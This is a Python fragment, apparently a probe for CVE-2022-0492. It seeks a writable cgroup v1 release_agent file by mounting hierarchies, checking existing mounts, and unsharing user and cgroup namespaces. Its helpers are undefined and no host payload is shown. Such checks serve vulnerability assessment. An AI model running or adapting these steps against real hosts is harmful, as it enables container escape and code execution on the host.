# CVE-2022-0492: a cgroup v1 hierarchy mounted by the tenant runs a program on the host when its last process ends.
CLONE_NEWUSER, CLONE_NEWCGROUP, CLONE_NEWNS = 0x10000000, 0x02000000, 0x00020000
CAP_SYS_ADMIN = 21
CONTROLLERS = [line.split()[0] for line in read("/proc/cgroups").splitlines() if not line.startswith("#")]


def mount_and_write():
    os.makedirs("/tmp/group", exist_ok=True)
    last = Absent("no hierarchy of version 1 can be had")
    for controller in CONTROLLERS:
        try:
            call(165, b"cgroup", b"/tmp/group", b"cgroup", 0, controller.encode())
        except OSError as error:
            if error.errno not in (errno.EINVAL, errno.EBUSY, errno.ENODEV):
                last = error
            continue
        try:
            return write_back("/tmp/group/release_agent")
        finally:
            call(166, b"/tmp/group", 2)
    raise last


def in_a_user_namespace_of_its_own():
    effective = next(line for line in read("/proc/self/status").splitlines() if line.startswith("CapEff:"))
    if int(effective.split()[1], 16) >> CAP_SYS_ADMIN & 1:
        raise Absent("there is nothing to win by one here")
    call(272, CLONE_NEWUSER | CLONE_NEWCGROUP | CLONE_NEWNS)
    return mount_and_write()


def where_it_is_mounted_already():
    for controller in CONTROLLERS + ["systemd"]:
        path = f"/sys/fs/cgroup/{controller}/release_agent"
        if os.path.exists(path):
            return write_back(path)
    raise Absent("none is mounted")


attempt(mount_and_write, where_it_is_mounted_already, in_a_user_namespace_of_its_own)
